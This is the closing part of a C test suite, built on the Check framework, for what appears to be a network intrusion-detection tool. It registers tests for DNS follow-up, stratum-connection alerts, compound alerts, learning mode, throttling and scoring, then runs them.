	tcase_add_test(cases, a_named_place_is_not_cut_off_when_it_is_known_or_another_device_or_too_late);
	tcase_add_test(cases, a_host_that_a_look_up_named_is_followed_through_dns);
	tcase_add_test(cases, a_known_host_that_a_look_up_named_stays_free);
	tcase_add_test(cases, stratum_to_the_outside_is_certain);
	tcase_add_test(cases, two_families_within_an_hour_make_an_exposed_server_s_compound_alert);
	tcase_add_test(cases, two_families_two_hours_apart_do_not);
	tcase_add_test(cases, what_alerts_is_not_learned_and_repeats_are_folded);
	tcase_add_test(cases, what_the_wire_dropped_is_not_learned);
	tcase_add_test(cases, in_mode_learn_only_certain_facts_alert);
	tcase_add_test(cases, a_held_pair_is_refused_when_its_opening_deserves_a_block);
	tcase_add_test(cases, a_request_is_found_again_and_printable);
	tcase_add_test(cases, the_whole_chain_of_case_one_is_told_step_by_step);
	tcase_add_test(cases, the_same_observations_give_the_same_alerts);
	add_throttle(cases);
	add_clock(cases);
	tcase_add_test(cases, a_roll_out_is_one_note);
	add_scorer(cases);
	tcase_add_test(cases, names_asked_day_after_day_outlive_a_flood_of_names);
	tcase_add_test(cases, records_without_a_flow_or_in_transit_are_let_through);
	tcase_set_timeout(cases, 110);
	suite_add_tcase(suite, cases);
	runner = srunner_create(suite);
	srunner_run_all(runner, CK_ENV);
	failed = srunner_ntests_failed(runner);
	srunner_free(runner);
	return failed != 0;
}
